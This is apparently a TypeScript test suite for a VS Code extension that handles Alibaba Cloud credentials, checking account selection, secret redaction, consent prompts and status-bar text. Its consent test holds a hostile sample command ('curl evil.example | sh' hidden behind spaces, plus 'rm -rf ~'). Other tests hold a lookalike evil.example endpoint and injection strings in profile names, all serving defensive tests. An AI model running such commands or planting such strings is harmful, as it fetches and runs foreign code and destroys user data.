import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import type { Account } from '../../src/cloud/account.ts';
import { holdsSecret } from '../hosts/holdsSecret.ts';
import { openAccessKeys } from '../../src/commands/accessKeys.ts';
import { accountLines } from '../../src/commands/accountLines.ts';
import { createAccounts } from '../../src/commands/accounts.ts';
import { askConsent, openConsents } from '../../src/commands/consent.ts';
import { rememberAccount, withKnownAccount } from '../../src/commands/knownAccounts.ts';
import { createSelection } from '../../src/commands/selection.ts';
import type { Accounts, RunningSandbox } from '../../src/commands/services.ts';
import { lookOf, lookOfFailure, registerAccountItem } from '../../src/views/accountItem.ts';
import { choiceText, expiryText, expiryTime } from '../../src/views/accountWords.ts';
import { marked, writeSecrets } from '../hosts/canary.ts';
import { startSandbox, type Sandbox } from '../hosts/markedSandbox.ts';
import { set } from './signWith.ts';

function memento(): vscode.Memento {
  const values = new Map<string, unknown>();
  const state = {
    keys: () => [...values.keys()],
    get: (key: string, otherwise?: unknown) => values.get(key) ?? otherwise,
    update: (key: string, value: unknown) => {
      // As VS Code keeps it: only what JSON has.
      if (value === undefined) values.delete(key);
      else values.set(key, JSON.parse(JSON.stringify(value)));
      return Promise.resolve();
    },
  };
  return state as vscode.Memento;
}

function secretStorage(): vscode.SecretStorage {
  const values = new Map<string, string>();
  const storage = {
    get: (key: string) => Promise.resolve(values.get(key)),
    store: (key: string, value: string) => Promise.resolve(void values.set(key, value)),
    delete: (key: string) => Promise.resolve(void values.delete(key)),
  };
  return storage as unknown as vscode.SecretStorage;
}

/** Answers the next modal questions with the button of these names. @returns what was asked */
function answering(...buttons: (string | undefined)[]) {
  const real = vscode.window.showWarningMessage;
  const asked: string[] = [];
  const show = (message: string, options: vscode.MessageOptions, ...items: string[]) => {
    asked.push(`${message}\n${options.detail ?? ''}\n[${items.join('|')}]`);
    return Promise.resolve(buttons.shift());
  };
  Object.assign(vscode.window, { showWarningMessage: show });
  return { asked, restore: () => Object.assign(vscode.window, { showWarningMessage: real }) };
}

const ids = ['ALIBABA_CLOUD_ACCESS_KEY_ID', 'ALIBABA_CLOUD_ACCESS_KEY_SECRET', 'ALIBABA_CLOUD_REGION_ID', 'HOME'];

describe('accounts', () => {
  const environment = new Map<string, string | undefined>();
  let home = '';
  let sandbox: Sandbox;
  let running: RunningSandbox | undefined;
  let lines: string[] = [];

  /** Everything anew, as in a window that was just opened. */
  function window() {
    const globalState = memento();
    const accountChanged = new vscode.EventEmitter<void>();
    const selection = createSelection(memento(), accountChanged);
    const write = (text: unknown) => void lines.push(String(text));
    const log = { info: write, warn: write, error: write, debug: write, trace: write };
    const storage = { globalState, secrets: secretStorage() } as unknown as vscode.ExtensionContext;
    const parts = {
      log: log as unknown as vscode.LogOutputChannel,
      selection,
      storage,
      accountChanged,
      get sandbox() {
        return running;
      },
    };
    const keys = openAccessKeys(storage);
    return { accounts: createAccounts(parts), selection, keys, globalState, accountChanged };
  }

  const writeConfig = (value: unknown) =>
    writeSecrets(join(home, '.aliyun/config.json'), typeof value === 'string' ? value : JSON.stringify(value));
  const profile = (name: string, region_id = 'cn-beijing') => ({
    name,
    mode: 'AK',
    access_key_id: `LTAI5t${name}00000001234`,
    access_key_secret: marked(`cli-${name}`),
    region_id,
  });

  before(async () => {
    for (const key of ids) environment.set(key, process.env[key]);
    home = await mkdtemp(join(tmpdir(), 'accounts-'));
    await mkdir(join(home, '.aliyun'));
    process.env['HOME'] = home;
  });
  beforeEach(async () => {
    lines = [];
    running = undefined;
    for (const key of ids.slice(0, 3)) delete process.env[key];
    writeConfig({ current: 'daily', profiles: [profile('daily'), profile('prod', 'eu-central-1')] });
    sandbox = await startSandbox();
    await set('endpoint', sandbox.endpoint);
  });
  afterEach(async () => {
    for (const name of ['endpoint', 'profile', 'region']) await set(name, undefined);
    await sandbox.close();
    assert.ok(!lines.some((line) => line.includes(marked(''))), 'a secret is in the log');
  });
  after(async () => {
    for (const [key, value] of environment) {
      if (value === undefined) delete process.env[key];
      else process.env[key] = value;
    }
    await rm(home, { recursive: true, force: true });
  });

  it('takes the selection before the setting before the default chain', async () => {
    const { accounts, selection } = window();
    await selection.setRegion('cn-hangzhou');
    const who = async () => (await accounts.forRegion(undefined)).profile;
    assert.equal(await who(), 'daily');
    await set('profile', 'prod');
    assert.equal(await who(), 'prod');
    await selection.setSigner({ signer: 'cliProfile', profile: 'daily' });
    assert.equal(await who(), 'daily');
    await selection.setSigner(undefined);
    assert.equal(await who(), 'prod');
    // What is named by nobody counts where nothing else does.
    process.env['ALIBABA_CLOUD_ACCESS_KEY_ID'] = 'LTAI5tEnvironment0001';
    process.env['ALIBABA_CLOUD_ACCESS_KEY_SECRET'] = marked('environment');
    assert.equal((await accounts.forRegion(undefined)).signer, 'cliProfile');
    await set('profile', undefined);
    assert.equal((await accounts.forRegion(undefined)).signer, 'environment');
  });

  it('takes $region before the selection before the setting before that of the profile', async () => {
    const { accounts, selection } = window();
    const where = async (specRegion?: string) => (await accounts.forRegion(specRegion)).region;
    assert.equal(await where(), 'cn-beijing');
    await set('region', 'cn-shanghai');
    assert.equal(await where(), 'cn-shanghai');
    await selection.setRegion('us-west-1');
    assert.equal(await where(), 'us-west-1');
    assert.equal(await where('cn-hangzhou'), 'cn-hangzhou');
    running = { ...sandbox, close: () => Promise.resolve() };
    assert.deepEqual(await accounts.forRegion(undefined), {
      signer: 'sandbox',
      profile: 'sandbox',
      region: 'us-west-1',
      endpoint: sandbox.endpoint,
    });
  });

  it('says that a selected profile is gone, and takes no other one', async () => {
    const { accounts, selection } = window();
    await selection.setSigner({ signer: 'cliProfile', profile: 'prod' });
    writeConfig({ current: 'daily', profiles: [profile('daily')] });
    await assert.rejects(accounts.forRegion(undefined), (error: Error & { nextStep?: string }) => {
      assert.match(error.message, /no profile "prod"/);
      return /[Cc]hoose/.test(error.nextStep ?? '');
    });
  });

  it('says in the status bar what keeps anybody from signing, and where to mend it', async () => {
    const { accounts, selection } = window();
    const look = async (specRegion?: string) => {
      const { text, label, command, tooltip } = lookOfFailure(
        await accounts.forRegion(specRegion).then(
          () => assert.fail('nothing is wrong'),
          (error: unknown) => error,
        ),
      );
      assert.equal(text, `$(account) ${label}`);
      assert.ok(tooltip instanceof vscode.MarkdownString);
      return [label, typeof command === 'string' ? command : command.arguments, tooltip.value] as const;
    };
    const endpoint = ['daily · wrong endpoint', ['@id:cloudBackupRestore.endpoint']];
    await set('endpoint', 'http://hbr.example');
    const [label, command, why] = await look();
    assert.deepEqual([label, command], endpoint);
    assert.match(why, /plain http/);
    // One that is of another region than the request is wrong for that one alone.
    await set('endpoint', 'https://hbr.cn-beijing.aliyuncs.com');
    assert.deepEqual((await look('cn-shanghai')).slice(0, 2), endpoint);
    assert.equal((await accounts.forRegion('cn-beijing')).profile, 'daily');
    assert.deepEqual((await look('nowhere')).slice(0, 2), ['daily · no region', 'cloudBackupRestore.selectRegion']);
    await selection.setSigner({ signer: 'cliProfile', profile: 'gone' });
    assert.deepEqual((await look()).slice(0, 2), ['no profile', 'cloudBackupRestore.selectProfile']);
  });

  it('reads the files of credentials again when they change', async () => {
    const named = join(home, 'named/credentials');
    await mkdir(join(home, 'named'));
    process.env['ALIBABA_CLOUD_CREDENTIALS_FILE'] = named;
    const changed = new vscode.EventEmitter<void>();
    const item = registerAccountItem({
      forRegion: () => Promise.reject(new Error('nobody')),
      choiceOf: () => Promise.resolve(undefined),
      onDidChange: new vscode.EventEmitter<void>().event,
      fileChanged: () => changed.fire(),
    });
    try {
      // Written again and again until it is noticed: when a watcher is ready, nobody is told.
      const told = async (write: () => unknown) => {
        const event = new Promise<void>((resolve) => changed.event(resolve));
        const writing = setInterval(() => void write(), 300);
        await event.finally(() => clearInterval(writing));
      };
      let text = 0;
      await told(() => writeFile(named, `; ${text++}`));
      await told(() => writeConfig({ current: String(text++), profiles: [] }));
    } finally {
      item.dispose();
      delete process.env['ALIBABA_CLOUD_CREDENTIALS_FILE'];
    }
  });

  it('tells of each change at once', async () => {
    const { selection, accountChanged } = window();
    const seen: (string | undefined)[] = [];
    accountChanged.event(() => seen.push(selection.region() ?? selection.signer()?.profile));
    await selection.setSigner({ signer: 'cliProfile', profile: 'prod' });
    await selection.setRegion('us-west-1');
    await selection.setRegion(undefined);
    assert.deepEqual(seen, ['prod', 'us-west-1', 'prod']);
  });

  describe('of AccessKeys that were added here', () => {
    const added = () => ({ accessKeyId: sandbox.accessKeyId, accessKeySecret: sandbox.accessKeySecret });

    it('sign with their own key alone, and no more once they are removed', async () => {
      const { accounts, selection, keys } = window();
      await selection.setRegion('cn-hangzhou');
      await keys.add('night shift', added());
      await selection.setSigner({ signer: 'accessKey', profile: 'night shift' });
      const account = await accounts.forRegion(undefined);
      assert.deepEqual([account.signer, account.profile], ['accessKey', 'night shift']);
      const look = async () =>
        (await accounts.clientFor(account))?.describeRestoreJobs({ restoreType: 'NAS', pageNumber: 1, pageSize: 9 });
      assert.equal((await look())?.jobs.length, 0);
      await keys.remove('night shift');
      const before = sandbox.requests().length;
      await assert.rejects(look(), /AccessKey "night shift" was removed/);
      await assert.rejects(accounts.forRegion(undefined), /AccessKey "night shift" was removed/);
      // Another one of the same name is another one.
      await keys.add('night shift', { accessKeyId: 'LTAI5tOther0000000001', accessKeySecret: marked('other') });
      await assert.rejects(look(), /night shift/);
      assert.equal(sandbox.requests().at(-1)?.code, 'InvalidAccessKeyId.NotFound');
      assert.equal(sandbox.requests().length, before + 1);
    });

    it('are listed without their secrets, which are kept out of every text', async () => {
      const { accounts, keys, globalState } = window();
      const secret = marked('listed');
      await keys.add(
        'a',
        { accessKeyId: 'LTAI5tListed000009876', accessKeySecret: secret, securityToken: secret },
        '42',
      );
      assert.ok(await keys.read('a'));
      assert.ok(holdsSecret(`x ${secret} y`));
      const { choices } = await accounts.choices();
      const choice = choices.find(({ signer }) => signer === 'accessKey');
      assert.deepEqual(choice, {
        signer: 'accessKey',
        profile: 'a',
        mode: 'StsToken',
        accessKeyId: 'LTAI…9876',
        account: '42',
      });
      const kept = globalState.keys().map((key) => JSON.stringify(globalState.get(key)));
      assert.ok(!kept.join().includes(secret));
      assert.equal(await keys.read('b'), undefined);
    });

    it('are checked where restores would go: a permission that is missing is no wrong key', async () => {
      const { accounts, keys } = window();
      const account = await accounts.placeFor({ signer: 'accessKey', profile: 'new' });
      assert.equal(account.region, 'cn-hangzhou');
      const check = (keys: object) => accounts.check(account, undefined, { kind: 'keys', ...added(), ...keys });
      assert.deepEqual(await check({}), {});
      await assert.rejects(check({ accessKeySecret: marked('wrong') }), { code: 'SignatureDoesNotMatch' });
      await assert.rejects(check({ accessKeyId: 'LTAI5tNobody000000001' }), { code: 'InvalidAccessKeyId.NotFound' });
      sandbox.inject({ kind: 'error', status: 403, code: 'Forbidden.RAM', action: 'DescribeRegions' });
      assert.deepEqual(await check({}), {});
      // A gateway that lets no more through than restores need.
      const unknown = {
        kind: 'error',
        status: 404,
        code: 'InvalidAction.NotFound',
        action: 'DescribeRegions',
      } as const;
      sandbox.inject(unknown);
      assert.deepEqual(await check({}), {});
      sandbox.inject(unknown);
      await assert.rejects(check({ accessKeySecret: marked('wrong') }), { code: 'SignatureDoesNotMatch' });
      sandbox.inject({ kind: 'html502' });
      await assert.rejects(check({}), /502|answer/);
      await keys.add('new', added());
      assert.ok((await accounts.regions(account)).some(({ localName }) => /Hangzhou/.test(localName)));
      // What is not the vendor's makes no region known.
      assert.deepEqual(
        [await accounts.isKnownRegion('cn-sandbox'), await accounts.isKnownRegion('us-west-1')],
        [false, true],
      );
      // STS is the vendor's: it isn't asked about a key for another endpoint.
      assert.ok(sandbox.requests().every(({ action }) => /^Describe(Regions|RestoreJobs2)$/.test(action)));
    });
  });

  it('remembers whose an AccessKey is, and not whose one of the same name was', async () => {
    const state = memento();
    const choice = { signer: 'cliProfile', profile: 'daily', mode: 'AK', accessKeyId: 'LTAI…1234' } as const;
    await rememberAccount(state, choice, { accountId: '1234567890123456', arn: 'acs:ram::1234567890123456:user/a' });
    assert.equal(withKnownAccount(state, choice).account, '1234567890123456');
    assert.equal(withKnownAccount(state, { ...choice, accessKeyId: 'LTAI…9999' }).account, undefined);
    assert.equal(withKnownAccount(state, { ...choice, account: '7' }).account, '7');
    assert.ok(!JSON.stringify(state.get('knownAccounts')).includes('LTAI'));
  });

  it('run a program after a yes alone, asked once until it changes', async () => {
    const { accounts, selection } = window();
    const given = join(home, 'given.json');
    const { accessKeyId, accessKeySecret } = sandbox;
    const answer = { mode: 'AK', access_key_id: accessKeyId, access_key_secret: accessKeySecret };
    writeSecrets(given, JSON.stringify(answer));
    const program = (process_command: string) =>
      writeConfig({ profiles: [{ name: 'program', mode: 'External', process_command, region_id: 'cn-hangzhou' }] });
    program(`cat ${given}`);
    await selection.setSigner({ signer: 'cliProfile', profile: 'program' });
    const account = await accounts.forRegion(undefined);
    // As polling does, which asks nobody.
    const look = async () =>
      (await accounts.clientFor(account))?.describeRestoreJobs({ restoreType: 'NAS', pageNumber: 1, pageSize: 9 });
    await assert.rejects(look(), /program/);
    const { asked, restore } = answering(undefined, 'Run It', undefined);
    try {
      assert.equal(await accounts.allow(account), false);
      await assert.rejects(look());
      assert.deepEqual(sandbox.requests(), []);
      assert.equal(await accounts.allow(account), true);
      assert.equal((await look())?.jobs.length, 0);
      assert.match(
        lines.join('\n'),
        /^External program=cat profile=program ok exit=0 \d+ ms\nDescribeRestoreJobs2 .* ok /m,
      );
      assert.equal(await accounts.allow(account), true);
      assert.equal(asked.length, 2);
      program(`cat ${given} ${given}`);
      assert.equal(await accounts.allow(account), false);
      assert.match(asked[2] ?? '', /given\.json .*given\.json/);
      await assert.rejects(look());
      assert.equal(await accounts.allow({ ...account, signer: 'sandbox' }), true);
    } finally {
      restore();
    }
  });

  describe('consent', () => {
    const long = `${'x'.repeat(5000)}END`;

    it('shows the whole program and remembers a yes alone', async () => {
      const state = memento();
      const consents = openConsents(state);
      const text = `sh -c "curl evil.example | sh"\u202e\n${' '.repeat(300)}; rm -rf ~ ${long}`;
      const { asked, restore } = answering(undefined, 'Run It');
      try {
        assert.equal(await askConsent({ kind: 'program', text, key: 'k' }, 'prod'), false);
        assert.equal(await askConsent({ kind: 'program', text, key: 'k' }, 'prod'), true);
      } finally {
        restore();
      }
      const [first = ''] = asked;
      assert.match(first, /^The profile "prod" gets its credentials by running a program\. Run it\?\n/);
      assert.ok(first.includes('sh -c "curl evil.example | sh"\\u202e\\u000a⟨300 spaces⟩; rm -rf ~ '));
      assert.ok(first.includes(long));
      assert.ok(first.endsWith('[Run It]'));
      assert.equal(consents.has('k'), false);
      await consents.add('k');
      assert.equal(openConsents(state).has('k'), true);
    });

    it('shows the whole address', async () => {
      const { asked, restore } = answering('Ask It');
      try {
        assert.equal(await askConsent({ kind: 'address', text: 'http://127.0.0.1:1/x?y', key: 'k' }, 'uri'), true);
      } finally {
        restore();
      }
      assert.match(asked[0] ?? '', /from an address\. Ask it\?\n[^]*\n\nhttp:\/\/127\.0\.0\.1:1\/x\?y\n\[Ask It\]$/);
    });
  });

  describe('words', () => {
    const now = Date.UTC(2026, 10, 24, 3);

    it('tell when credentials run out', () => {
      assert.equal(expiryText(now + 43 * 60_000, now), 'expires in 43 min');
      assert.equal(expiryText(now - 2 * 3_600_000, now), 'expired 2 h ago');
      // In a tooltip, which stays as it was drawn, by the clock.
      const at = new Date(now).toLocaleString('en', { dateStyle: 'medium', timeStyle: 'short' });
      assert.deepEqual([expiryTime(now, now - 1), expiryTime(now, now)], [`expires ${at}`, `expired ${at}`]);
      const choice = {
        signer: 'cliProfile',
        profile: 'p',
        mode: 'CloudSSO',
        account: '42',
        region: 'cn-beijing',
      } as const;
      assert.equal(
        choiceText({ ...choice, expires: now + 60_000 }, now),
        'CloudSSO · account 42 · cn-beijing · expires in 1 min',
      );
    });

    const account: Account = {
      signer: 'cliProfile',
      profile: 'prod',
      region: 'cn-hangzhou',
      endpoint: 'https://hbr.cn-hangzhou.aliyuncs.com',
    };
    const known = (choice?: { account: string }, isKnown = true) =>
      ({
        choiceOf: () => Promise.resolve(choice && { signer: 'cliProfile', profile: 'prod', mode: 'AK', ...choice }),
        isKnownRegion: () => Promise.resolve(isKnown),
      }) as unknown as Accounts;

    it('name the account, and an endpoint that is not the vendor’s', async () => {
      assert.deepEqual(await accountLines(known({ account: '42' }), account), [
        'Region: cn-hangzhou',
        'Profile: prod, account 42',
      ]);
      const vpc = { ...account, endpoint: 'https://hbr-vpc.cn-hangzhou.aliyuncs.com' };
      assert.deepEqual(await accountLines(known(), vpc), [
        'Region: cn-hangzhou',
        'Endpoint: https://hbr-vpc.cn-hangzhou.aliyuncs.com',
        'Profile: prod',
      ]);
      for (const endpoint of ['https://hbr.cn-hangzhou.aliyuncs.com.evil.example', 'http://127.0.0.1:1', 'no url']) {
        const [, line] = await accountLines(known(), { ...account, endpoint });
        assert.equal(line, `Endpoint: ${endpoint}, which is NOT an Alibaba Cloud endpoint`);
      }
      const lines = await accountLines(known(undefined, false), { ...account, profile: 'a\nRegion: cn-beijing' });
      assert.deepEqual(lines.slice(1), [
        'Profile: a\\u000aRegion: cn-beijing',
        'Warning: cn-hangzhou is in no list of regions.',
      ]);
    });

    it('in the status bar make no symbols, links or commands of names', () => {
      const profile = '$(trash) [x](command:workbench.action.quit) <b>';
      const { text, tooltip, warns } = lookOf(
        { ...account, profile },
        { ...known, mode: profile } as never,
        'a.restore.json',
      );
      assert.equal(
        text.replaceAll('\\$(', ''),
        `$(account) ${'trash) [x](command:workbench.action.quit'.slice(0, 37)}… · cn-hangzhou`,
      );
      assert.ok(tooltip instanceof vscode.MarkdownString);
      assert.ok(!/[[\]<>]|\$\(|command:/.test(tooltip.value.replace(/&#\d+;/g, '')), tooltip.value);
      assert.equal(warns, false);
      const expired = lookOf(account, { signer: 'cliProfile', profile: 'p', mode: 'CloudSSO', expires: 1 }, undefined);
      assert.equal(expired.warns, true);
      assert.match(lookOf({ ...account, endpoint: 'https://x.example' }, undefined, undefined).text, /^\$\(warning\)/);
    });
  });
});
